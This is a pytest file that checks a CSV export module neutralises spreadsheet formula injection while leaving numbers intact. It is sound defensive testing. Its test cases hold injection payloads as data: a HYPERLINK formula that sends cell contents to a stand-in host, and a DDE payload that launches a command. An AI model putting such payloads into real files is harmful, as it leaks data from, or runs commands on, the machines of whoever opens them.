"""CSV handed back by the server: spreadsheet formulas neutralised, numbers left as numbers."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from shopfloor.data.export import neutralise_cell, safe_frame, to_safe_csv


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x.example/?d="&A1,"open")', '\'=HYPERLINK("http://x.example/?d="&A1,"open")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("-3.5", "-3.5"),  # a number written as text is no formula
        ("+2e3", "+2e3"),
        ("pump = ok", "pump = ok"),
        ("", ""),
    ],
)
def test_formula_cells_get_a_quote_and_numbers_do_not(cell: str, written: str) -> None:
    assert neutralise_cell(cell) == written


def test_numeric_columns_stay_numbers_and_names_are_neutralised() -> None:
    frame = pd.DataFrame({"=evil()": ["@x", None], "delta": [-1.5, 2.0], "n": [-3, 4]})
    out = safe_frame(frame)
    assert list(out.columns) == ["'=evil()", "delta", "n"]
    assert out["delta"].tolist() == [-1.5, 2.0] and out["n"].tolist() == [-3, 4]
    back = pd.read_csv(io.BytesIO(to_safe_csv(frame)))
    assert back["delta"].tolist() == [-1.5, 2.0] and back["n"].tolist() == [-3, 4]
    assert back["'=evil()"].tolist()[0] == "'@x" and pd.isna(back["'=evil()"].tolist()[1])
    assert frame.columns[0] == "=evil()"  # the caller's frame is not changed
